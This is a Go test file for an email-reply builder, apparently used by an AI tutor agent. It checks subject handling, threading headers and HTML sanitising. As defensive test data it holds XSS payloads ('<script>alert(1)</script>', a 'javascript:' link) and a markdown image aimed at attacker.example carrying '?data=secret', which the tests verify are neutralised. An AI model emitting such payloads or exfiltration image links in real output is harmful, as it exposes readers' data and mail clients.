package compose

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-message/mail"
)

func TestSubject(t *testing.T) {
	for in, want := range map[string]string{
		"Quadratic equations":     "Re: Quadratic equations",
		"Re: Quadratic equations": "Re: Quadratic equations",
		"RE:shout":                "Re:shout",
		"  ":                      "Re: (no subject)",
		"Fwd: notes":              "Re: Fwd: notes",
	} {
		if got := Subject(in); got != want {
			t.Errorf("Subject(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestReferences(t *testing.T) {
	if got := References([]string{"a", "b"}, []string{"b"}, "c"); strings.Join(got, " ") != "a b c" {
		t.Errorf("with References: %v", got)
	}
	if got := References(nil, []string{"b"}, "c"); strings.Join(got, " ") != "b c" {
		t.Errorf("In-Reply-To only: %v", got)
	}
	if got := References(nil, []string{"x", "y"}, "c"); strings.Join(got, " ") != "c" {
		t.Errorf("ambiguous In-Reply-To: %v", got)
	}
	if got := References(nil, nil, "c"); strings.Join(got, " ") != "c" {
		t.Errorf("first message: %v", got)
	}
}

func TestBuildIsAThreadedTwoPartReply(t *testing.T) {
	raw, err := Build(Reply{
		From:       mail.Address{Name: "Math Tutor", Address: "math-tutor-abc123@agents.agentic.local"},
		To:         mail.Address{Name: "Alice", Address: "alice@example.org"},
		Subject:    "Quadratic equations",
		MessageID:  "reply-1@agents.agentic.local",
		InReplyTo:  "q-2@example.org",
		References: []string{"root@example.org", "q-2@example.org"},
		Date:       time.Date(2024, 1, 2, 10, 0, 0, 0, time.UTC),
		Markdown:   "The roots are **1** and **-1**.\n\n<script>alert(1)</script>\n\n| a | b |\n|---|---|\n| 1 | 2 |",
		Citations: []Citation{
			{Name: "Algebra notes", URL: "https://docs.google.com/document/d/abc/edit"},
			{Name: "Bad <link>", URL: "javascript:alert(1)"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(bytes.ReplaceAll(raw, []byte("\r\n"), nil), []byte("\n")) {
		t.Error("bare LF in the message: SMTP needs CRLF")
	}
	mr, err := mail.CreateReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	h := mr.Header
	subject, _ := h.Subject()
	id, _ := h.MessageID()
	irt, _ := h.MsgIDList("In-Reply-To")
	refs, _ := h.MsgIDList("References")
	from, _ := h.AddressList("From")
	to, _ := h.AddressList("To")
	if subject != "Re: Quadratic equations" || id != "reply-1@agents.agentic.local" ||
		strings.Join(irt, " ") != "q-2@example.org" || strings.Join(refs, " ") != "root@example.org q-2@example.org" ||
		from[0].String() != `"Math Tutor" <math-tutor-abc123@agents.agentic.local>` || to[0].Address != "alice@example.org" ||
		h.Get("Auto-Submitted") != "auto-replied" {
		t.Fatalf("headers:\n%s", raw)
	}
	if ct, _, _ := h.ContentType(); ct != "multipart/alternative" {
		t.Fatalf("content type %q", ct)
	}
	parts := map[string]string{}
	for {
		p, err := mr.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		ct, params, _ := p.Header.(*mail.InlineHeader).ContentType()
		if params["charset"] != "utf-8" {
			t.Errorf("%s charset %q", ct, params["charset"])
		}
		b, _ := io.ReadAll(p.Body)
		parts[ct] = strings.ReplaceAll(string(b), "\r\n", "\n")
	}
	if len(parts) != 2 {
		t.Fatalf("parts: %v", parts)
	}
	text := parts["text/plain"]
	if !strings.Contains(text, "The roots are **1** and **-1**.") ||
		!strings.Contains(text, "Sources:\n[1] Algebra notes <https://docs.google.com/document/d/abc/edit>\n[2] Bad <link>\n") {
		t.Errorf("text part:\n%s", text)
	}
	body := parts["text/html"]
	for _, want := range []string{
		"<strong>1</strong>", "<table>",
		`<li><a href="https://docs.google.com/document/d/abc/edit" rel="noopener noreferrer nofollow" target="_blank" title="https://docs.google.com/document/d/abc/edit">Algebra notes (docs.google.com)</a></li>`,
		"<li>Bad &lt;link&gt;</li>",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("html part lacks %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "<script>") || strings.Contains(body, "javascript:") {
		t.Errorf("unsafe html passed through:\n%s", body)
	}
}

func TestBuildNeedsIDs(t *testing.T) {
	if _, err := Build(Reply{From: mail.Address{Address: "a@x"}, To: mail.Address{Address: "b@x"}, MessageID: "m"}); err == nil {
		t.Fatal("a reply without In-Reply-To was built")
	}
}

// A reply never loads remote content: an image planted in an answer is a
// link naming its host, not an <img> the reader's mail client would fetch.
func TestHTMLLoadsNothingRemote(t *testing.T) {
	body, err := HTML("See ![chart](https://attacker.example/x.png?data=secret) and [the docs](https://evil.example/page).", nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(body, "<img") || !strings.Contains(body, "(attacker.example)") ||
		!strings.Contains(body, `rel="noopener noreferrer nofollow"`) || !strings.Contains(body, "the docs (evil.example)") {
		t.Fatalf("html:\n%s", body)
	}
}
